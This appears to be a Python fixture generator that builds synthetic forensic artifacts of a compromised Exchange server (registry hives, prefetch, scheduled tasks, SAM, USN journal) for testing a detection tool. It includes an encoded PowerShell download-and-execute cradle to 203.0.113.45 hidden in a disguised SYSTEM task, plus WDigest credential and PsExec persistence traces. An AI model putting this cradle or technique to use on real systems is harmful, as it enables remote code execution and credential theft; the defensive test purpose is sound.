"""Registry hives and prefetch files of the compromised sample (issue 17), built with
regf_writer.py and prefetch_writer.py: fixed times, so the same bytes every run.

Planted: the PSEXESVC service (installed 07:45:04 by PsExec from WKS042) and WDigest
UseLogonCredential=1 (set 07:21:50 through the discover.aspx shell) in SYSTEM, ProcDump run
twice from C:\\ProgramData at 07:46 (prefetch), PSEXESVC.exe and procdump64.exe in the ShimCache
(SYSTEM AppCompatCache) and procdump64.exe with a (synthetic) SHA-1 in Amcache.hve. Look-alikes that must stay quiet: Microsoft and
Exchange services (Defender's under ProgramData), the default LSA packages, ordinary Run entries,
IFEO entries without a debugger, and prefetch files of conhost.exe and 7-Zip from Program Files.
"""
from __future__ import annotations

import base64
import hashlib
import struct

from prefetch_writer import scca_2008_hash, write as write_prefetch
from regf_writer import filetime, write_hive

INSTALLED = "2020-11-02T10:14:00Z"
VOLUME = "\\VOLUME{01d6b10c3e2f4a50-8c1d2e3f}"
DEVICE = "\\DEVICE\\HARDDISKVOLUME2"


def key(name, time=INSTALLED, values=(), keys=()):
    return {"name": name, "time": time, "values": list(values), "keys": list(keys)}


def val(name, kind, data=None):
    return {"name": name, "type": kind, "data": data}


def service(name, image_path, time=INSTALLED, start=2, display=None):
    values = [val("ImagePath", "expand_sz", image_path), val("Start", "dword", start), val("Type", "dword", 16),
              val("ObjectName", "sz", "LocalSystem")]
    if display:
        values.append(val("DisplayName", "sz", display))
    return key(name, time, values)


EXCHANGE_BIN = "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"


def system_hive() -> bytes:
    services = [
        service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", time="2021-03-03T07:45:04Z", start=3),
        service("W3SVC", "%windir%\\system32\\svchost.exe -k iissvcs", display="World Wide Web Publishing Service"),
        service("WinDefend", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.2101.9-0\\MsMpEng.exe\"",
                time="2021-03-02T03:11:45Z", display="Microsoft Defender Antivirus Service"),
        service("MSExchangeFrontEndTransport", EXCHANGE_BIN + "MSExchangeFrontendTransport.exe\""),
        service("MSExchangeTransport", EXCHANGE_BIN + "MSExchangeTransport.exe\""),
        service("MSExchangeIS", EXCHANGE_BIN + "Microsoft.Exchange.Store.Service.exe\""),
        service("WinRM", "%SystemRoot%\\system32\\svchost.exe -k NetworkService -p"),
        service("PerfHost", "%SystemRoot%\\SysWow64\\perfhost.exe", start=3),
        service("VMTools", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\"", display="VMware Tools"),
        service("Tcpip", "System32\\drivers\\tcpip.sys", start=0),
    ]
    lsa = key("Lsa", values=[
        val("Security Packages", "multi_sz", ["kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u"]),
        val("Authentication Packages", "multi_sz", ["msv1_0"]),
        val("Notification Packages", "multi_sz", ["scecli"]),
        val("LmCompatibilityLevel", "dword", 5),
    ])
    wdigest = key("WDigest", time="2021-03-03T07:21:50Z", values=[
        val("DebugLevel", "dword", 0), val("Negotiate", "dword", 0), val("UseLogonCredential", "dword", 1)])
    shim = key("AppCompatCache", time="2021-03-03T09:38:12Z", values=[val("AppCompatCache", "binary", appcompat_cache([
        ("C:\\Windows\\PSEXESVC.exe", "2021-03-03T07:45:04Z"),
        ("C:\\ProgramData\\procdump64.exe", "2020-07-20T21:46:34Z"),
        ("C:\\Program Files\\7-Zip\\7z.exe", "2019-02-21T20:00:00Z"),
        ("C:\\Windows\\system32\\conhost.exe", "2020-10-08T04:12:55Z"),
        ("C:\\Windows\\system32\\wevtutil.exe", "2016-07-16T13:19:05Z"),
    ]).hex())])
    control = key("Control", keys=[lsa, key("SecurityProviders", keys=[wdigest]), key("Session Manager", keys=[shim]),
                                   key("ComputerName", keys=[key("ComputerName", values=[val("ComputerName", "sz", "EXCH01")])])])
    return write_hive({"name": "SYSTEM", "time": "2021-03-03T09:40:00Z", "root": key("ROOT", keys=[
        key("Select", values=[val("Current", "dword", 1), val("Default", "dword", 1), val("LastKnownGood", "dword", 1)]),
        key("ControlSet001", keys=[control, key("Services", keys=services)]),
    ])})


def appcompat_cache(entries: list[tuple[str, str]]) -> bytes:
    """Windows 10 / Server 2016 AppCompatCache: a 0x34-byte header (its size first), then per entry
    `10ts`, a hash word, the entry size, the UTF-16LE path with its byte length, the file's
    last-modified FILETIME and no shim data. Most recent first."""
    out = bytearray(struct.pack("<I", 0x34) + bytes(0x30))
    for path, modified in entries:
        raw = path.encode("utf-16-le")
        body = struct.pack("<H", len(raw)) + raw + struct.pack("<QI", filetime(modified), 0)
        out += b"10ts" + struct.pack("<II", 0, len(body)) + body
    return bytes(out)


def amcache_hive() -> bytes:
    """Amcache.hve with InventoryApplicationFile records; SHA-1 values are synthetic (SHA-1 of a label)."""
    def record(name, path, publisher, link_date, time, size):
        sha1 = hashlib.sha1(f"EXTRIAGE SYNTHETIC {name}".encode()).hexdigest()
        return key(f"{name}|{sha1[:16]}", time, [
            val("ProgramId", "sz", "0000f519feec486de87ed73cb92d3cac802400000000"), val("FileId", "sz", "0000" + sha1),
            val("LowerCaseLongPath", "sz", path), val("Name", "sz", name), val("Publisher", "sz", publisher),
            val("BinaryType", "sz", "pe64_amd64"), val("LinkDate", "sz", link_date), val("Size", "qword", size),
            val("IsOsComponent", "dword", 0)])
    files = key("InventoryApplicationFile", time="2021-03-03T07:46:33Z", keys=[
        record("procdump64.exe", "c:\\programdata\\procdump64.exe", "sysinternals - www.sysinternals.com", "07/20/2020 21:46:34",
               "2021-03-03T07:46:33Z", 424856),
        record("7z.exe", "c:\\program files\\7-zip\\7z.exe", "igor pavlov", "02/21/2019 20:00:00", "2020-11-02T11:02:10Z", 468992),
        record("vmtoolsd.exe", "c:\\program files\\vmware\\vmware tools\\vmtoolsd.exe", "vmware, inc.", "06/10/2020 08:13:42",
               "2020-11-02T10:31:00Z", 93480),
    ])
    return write_hive({"name": "Amcache.hve", "time": "2021-03-03T09:38:00Z",
                       "root": key("{11517B7C-E79D-4e20-961B-75A811715ADD}", keys=[key("Root", keys=[files])])})


def software_hive() -> bytes:
    run = key("Run", time="2020-11-02T10:40:00Z", values=[
        val("SecurityHealth", "expand_sz", "%windir%\\system32\\SecurityHealthSystray.exe"),
        val("VMware User Process", "sz", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr"),
    ])
    ifeo = key("Image File Execution Options", keys=[
        key("DllNXOptions", values=[val("mscoree.dll", "dword", 1)]),
        key("MsMpEng.exe", values=[val("MitigationOptions", "binary", "0000000000000100")]),
    ])
    current = key("CurrentVersion", values=[val("ProductName", "sz", "Windows Server 2016 Datacenter"),
                                            val("CurrentBuild", "sz", "14393")], keys=[ifeo])
    microsoft = key("Microsoft", keys=[
        key("Windows", keys=[key("CurrentVersion", keys=[run, key("RunOnce")])]),
        key("Windows NT", keys=[current]),
    ])
    return write_hive({"name": "SOFTWARE", "time": "2021-03-03T09:41:00Z", "root": key("ROOT", keys=[microsoft])})


def prefetch(executable: str, folder: str, runs: list[str], run_count: int, extra: tuple[str, ...] = ()) -> tuple[str, bytes]:
    """(file name, bytes) of a format 30 prefetch file for `folder\\executable` on the system volume,
    MAM-compressed (LZXPRESS Huffman) as Windows Server 2016 writes it."""
    own = f"{folder}\\{executable}"
    files = [f"{VOLUME}\\WINDOWS\\SYSTEM32\\NTDLL.DLL", f"{VOLUME}\\WINDOWS\\SYSTEM32\\KERNEL32.DLL",
             f"{VOLUME}\\WINDOWS\\SYSTEM32\\KERNELBASE.DLL"] + [f"{VOLUME}\\{name}" for name in extra] + [f"{VOLUME}\\{own}"]
    digest = scca_2008_hash(f"{DEVICE}\\{own}")
    data = write_prefetch({"version": 30, "executable": executable, "hash": digest, "run_count": run_count, "last_runs": runs,
                           "files": files, "volume": VOLUME, "volume_serial": 0x8C1D2E3F, "volume_created": "2020-11-02T09:58:00Z",
                           "compress": True})
    return f"{executable}-{digest}.pf", data


def prefetch_files() -> list[tuple[str, bytes, bool]]:
    """(name, bytes, planted) for Windows/Prefetch."""
    procdump = prefetch("PROCDUMP64.EXE", "PROGRAMDATA", ["2021-03-03T07:46:31Z", "2021-03-03T07:46:20Z"], 2,
                        extra=("WINDOWS\\SYSTEM32\\DBGHELP.DLL",))
    conhost = prefetch("CONHOST.EXE", "WINDOWS\\SYSTEM32", ["2021-03-03T08:40:02Z", "2021-03-03T07:45:07Z", "2021-03-02T22:05:11Z"], 57)
    sevenzip = prefetch("7Z.EXE", "PROGRAM FILES\\7-ZIP", ["2021-03-03T07:52:18Z"], 3, extra=("PROGRAM FILES\\7-ZIP\\7Z.DLL",))
    return [(procdump[0], procdump[1], True), (conhost[0], conhost[1], False), (sevenzip[0], sevenzip[1], False)]


def task_xml(date: str, author: str, principal: str, command: str, arguments: str | None = None, hidden: bool = False,
             uri: str = "") -> bytes:
    """A Task Scheduler 1.2 definition as Windows writes it under System32\\Tasks: UTF-16LE with a BOM."""
    args = f"\n      <Arguments>{arguments}</Arguments>" if arguments else ""
    text = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>{date}</Date>
    <Author>{author}</Author>
    <URI>{uri}</URI>
  </RegistrationInfo>
  <Triggers>
    <BootTrigger>
      <Enabled>true</Enabled>
    </BootTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>{principal}</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <Hidden>{"true" if hidden else "false"}</Hidden>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>{command}</Command>{args}
    </Exec>
  </Actions>
</Task>
""".replace("\n", "\r\n")
    return b"\xff\xfe" + text.encode("utf-16-le")


def task_files() -> list[tuple[str, bytes, bool]]:
    """(path below System32/Tasks, bytes, planted). Planted: a hidden SYSTEM task registered at 07:50:12
    by CORP\\Administrator under a Microsoft-looking folder, running encoded PowerShell (a download cradle
    to the attacker's address). Look-alikes: Defender's scheduled scan (MpCmdRun.exe from ProgramData)
    and ScheduledDefrag, both Microsoft's."""
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/u.ps1')"
    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
    planted = "Microsoft/Windows/Maintenance/WinSvcHealth"
    return [
        (planted, task_xml("2021-03-03T07:50:12", "CORP\\Administrator", "S-1-5-18", "powershell.exe",
                           f"-nop -w hidden -enc {encoded}", hidden=True, uri="\\" + planted.replace("/", "\\")), True),
        ("Microsoft/Windows/Windows Defender/Windows Defender Scheduled Scan",
         task_xml("2020-11-02T10:20:00", "Microsoft Corporation", "S-1-5-18",
                  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2101.9-0\\MpCmdRun.exe",
                  "Scan -ScheduleJob -ScanTrigger 55", uri="\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan"),
         False),
        ("Microsoft/Windows/Defrag/ScheduledDefrag",
         task_xml("2016-07-16T13:22:00", "$(@%SystemRoot%\\system32\\defragsvc.dll,-801)", "S-1-5-18", "%windir%\\system32\\defrag.exe",
                  "-c -h -o -$", hidden=True, uri="\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"), False),
    ]


def sam_hive() -> bytes:
    """SAM with the built-in accounts and one local account added during the attack: `exsvc`, RID 1003,
    its Names key written 07:51:30 (about when it was created), last logon 08:05:12 in its F value.
    A Names entry's value type is the account's RID, as Windows stores it."""
    accounts = [("Administrator", 500, INSTALLED, None), ("Guest", 501, INSTALLED, None), ("DefaultAccount", 503, INSTALLED, None),
                ("exsvc", 1003, "2021-03-03T07:51:30Z", "2021-03-03T08:05:12Z")]
    names = key("Names", time="2021-03-03T07:51:30Z",
                keys=[key(name, time, [{"name": "", "type": "none", "type_code": rid, "data": None}]) for name, rid, time, _ in accounts])
    records = []
    for name, rid, time, logon in accounts:
        f = bytearray(80)
        if logon:
            struct.pack_into("<Q", f, 8, filetime(logon))
        struct.pack_into("<I", f, 48, rid)
        records.append(key("%08X" % rid, time, [val("F", "binary", bytes(f).hex())]))
    users = key("Users", time="2021-03-03T07:51:30Z", keys=[names] + records)
    return write_hive({"name": "SAM", "time": "2021-03-03T08:05:12Z", "root": key("ROOT", keys=[
        key("SAM", keys=[key("Domains", keys=[key("Account", keys=[users])])])])})
def usn_journal() -> bytes:
    """The volume's change journal ($Extend/$UsnJrnl:$J, V2 records): the folders of the web roots laid down at
    install time (so parents resolve to paths), benign churn on 2021-03-03 (WER triage dump, Windows Update
    cab, ASP.NET compile temp files) and healthcheck.aspx created in aspnet_client and deleted 14 minutes later."""
    import datetime as dt
    import usn_writer as u

    utc = dt.timezone.utc

    def t(text: str) -> dt.datetime:
        return dt.datetime.fromisoformat(text).replace(tzinfo=utc)

    root = (5, 5)
    records: list[dict] = []

    def folder(ref, parent, name, when):
        for reason in (u.FILE_CREATE, u.FILE_CREATE | u.CLOSE):
            records.append({"file": ref, "parent": parent, "time": t(when), "reason": reason, "attributes": u.ATTR_DIRECTORY, "name": name})

    def short_lived(ref, parent, name, created, deleted):
        for reason in (u.FILE_CREATE, u.FILE_CREATE | u.DATA_EXTEND, u.FILE_CREATE | u.DATA_EXTEND | u.CLOSE):
            records.append({"file": ref, "parent": parent, "time": t(created), "reason": reason, "name": name})
        records.append({"file": ref, "parent": parent, "time": t(deleted), "reason": u.FILE_DELETE | u.CLOSE, "name": name})

    # IIS and ASP.NET registration (2020-12-14), Exchange setup (2020-12-15): the web roots' folders.
    folder((40, 1), root, "inetpub", "2020-12-14T10:02:11.5210000")
    folder((41, 1), (40, 1), "wwwroot", "2020-12-14T10:02:11.5230000")
    folder((1250, 1), (41, 1), "aspnet_client", "2020-12-14T10:04:37.1180000")
    folder((1251, 1), (1250, 1), "system_web", "2020-12-14T10:04:37.1190000")
    folder((1252, 1), (1251, 1), "4_0_30319", "2020-12-14T10:04:37.1200000")
    # Program Files\Microsoft (entry 3120) predates the journal: these paths resolve from "Exchange Server" down.
    folder((88110, 1), (3120, 1), "Exchange Server", "2020-12-15T09:30:02.0040000")
    folder((88111, 1), (88110, 1), "V15", "2020-12-15T09:30:02.0050000")
    folder((88500, 1), (88111, 1), "FrontEnd", "2020-12-15T09:41:17.3000000")
    folder((88501, 1), (88500, 1), "HttpProxy", "2020-12-15T09:41:17.3010000")
    folder((88502, 1), (88501, 1), "owa", "2020-12-15T09:41:17.3020000")
    folder((88503, 1), (88502, 1), "auth", "2020-12-15T09:41:17.3030000")
    # Benign churn: a WER report folder with its triage dump (sent, then deleted by WER) ...
    folder((70020, 2), (2210, 1), "AppCrash_MSExchangeHMWo_3c1a9c5d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3_0f1e2d3c_1a2b3c4d",
           "2021-03-03T05:12:40.2000000")
    short_lived((70021, 2), (70020, 2), "triagedump.dmp", "2021-03-03T05:12:40.4100000", "2021-03-03T05:13:02.7700000")
    # ... Windows Update's download cache (a cab unpacked and removed) ...
    folder((70030, 5), (2301, 1), "1f9c0c3a6b4e2d8f7a5c3b1e9d7f5a3c", "2021-03-03T05:40:11.0000000")
    short_lived((70031, 5), (70030, 5), "Windows10.0-KB5000803-x64.cab", "2021-03-03T05:40:11.2000000", "2021-03-03T05:44:58.9000000")
    # ... and w3wp compiling a page in Temporary ASP.NET Files (its temporary sources, deleted when done).
    for offset, name in enumerate(("App_Web_k4p2x9qz.0.cs", "App_Web_k4p2x9qz.cmdline", "App_Web_k4p2x9qz.out")):
        short_lived((70040 + offset, 1), (2450, 1), name, f"2021-03-03T06:58:30.{offset}000000", "2021-03-03T06:58:31.5000000")
    # The attack: healthcheck.aspx planted in aspnet_client\system_web\4_0_30319, used, deleted 14 minutes later.
    short_lived((70211, 3), (1252, 1), "healthcheck.aspx", "2021-03-03T06:58:10.1234567", "2021-03-03T07:12:44.0561234")
    records.sort(key=lambda r: r["time"])
    return u.write({"version": 2, "leading_zeros": 65536, "records": records})
